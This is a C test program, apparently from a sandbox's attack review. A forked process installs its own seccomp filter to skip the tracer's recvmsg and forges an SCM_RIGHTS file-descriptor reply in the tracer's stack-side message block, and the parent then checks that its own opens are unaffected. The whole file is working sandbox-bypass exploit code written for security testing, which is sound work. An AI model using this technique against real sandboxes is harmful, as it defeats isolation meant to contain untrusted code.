/* The ptrace platform's fd answer, forged (attack review 6, P6-4): a
 * process finds the message block the tracer left below its stack,
 * installs its own seccomp filter that skips the tracer's rewritten
 * recvmsg on the hidden fd (its ERRNO outranks RET_TRACE), and has a thread
 * write a fake "received fd 0" into the block while it opens a file. The
 * parent, a second process of the sandbox, opens the same file
 * once the forger is done: the message the forger left on the shared
 * socket must never reach it.
 * Prints the forger's fate and the parent's opens. argv[1]: hidden fd,
 * argv[2]: a readable file. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* the block: a msghdr whose iov and control point into the block itself */
static uintptr_t find_block(void)
{
	volatile char probe;
	uintptr_t top = (uintptr_t)&probe;
	for (uintptr_t a = (top - 8192) & ~63UL; a < top; a += 64) {
		const uint64_t *m = (const uint64_t *)a;
		if (m[2] == a + 56 && m[4] == a + 80 && m[3] == 1 &&
		    *(uint64_t *)(a + 56) == a + 72)
			return a;
	}
	return 0;
}

static __attribute__((noinline)) int open_file(const char *p)
{
	return open(p, O_RDONLY);
}

static volatile uintptr_t block;
static volatile uint64_t fake_seq;
static volatile int started, armed, forging = 1, stopped;

static void *forger(void *arg)
{
	(void)arg;
	struct cmsghdr h = {
	    .cmsg_len = CMSG_LEN(sizeof(int)), .cmsg_level = SOL_SOCKET, .cmsg_type = SCM_RIGHTS};
	int give = 0;
	started = 1;
	/* not before the open: the writes land below the caller's stack
	 * pointer, where any deeper call of main's would have its frame */
	while (!armed)
		;
	while (forging) {
		*(volatile uint64_t *)(block + 72) = fake_seq;
		memcpy((void *)(block + 80), &h, sizeof(h));
		memcpy((void *)(block + 80 + sizeof(h)), &give, sizeof(give));
	}
	stopped = 1;
	return NULL;
}

static int skip_hidden_recvmsg(int h)
{
	struct sock_filter f[] = {
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_recvmsg, 0, 3),
	    BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
	    BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (unsigned)h, 0, 1),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
	    BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = {.len = sizeof(f) / sizeof(f[0]), .filter = f};
	return (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
}

static void attack(int h, const char *file)
{
	int fd = open_file(file);
	block = find_block();
	if (fd < 0 || !block) {
		printf("forger no-block\n");
		_exit(3);
	}
	fake_seq = *(uint64_t *)(block + 72) + 1;
	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 || skip_hidden_recvmsg(h) < 0) {
		printf("forger no-filter %s\n", strerror(errno));
		_exit(3);
	}
	pthread_t t;
	pthread_create(&t, NULL, forger, NULL);
	while (!started)
		;
	armed = 1;
	fd = open_file(file);
	forging = 0;
	while (!stopped) /* no call until the writes below the stack have stopped */
		;
	pthread_join(t, NULL);
	struct stat st;
	printf("forger answered %d %s\n", fd,
	       fd < 0		     ? strerror(errno)
	       : fstat(fd, &st) != 0 ? "not-open"
	       : S_ISCHR(st.st_mode) ? "forged"
				     : "real");
	_exit(0);
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	int h = atoi(argv[1]);
	pid_t child = fork();
	if (child == 0)
		attack(h, argv[2]);
	int status;
	waitpid(child, &status, 0);
	int ok = 0;
	for (int i = 0; i < 5; i++) {
		int fd = open(argv[2], O_RDONLY);
		struct stat st;
		if (fd >= 0 && fstat(fd, &st) == 0 && S_ISREG(st.st_mode))
			ok++;
		if (fd >= 0)
			close(fd);
	}
	printf("parent opens %d/5\n", ok);
	if (WIFSIGNALED(status))
		printf("forger killed %d\n", WTERMSIG(status));
	else
		printf("forger exit %d\n", WEXITSTATUS(status));
	return 0;
}
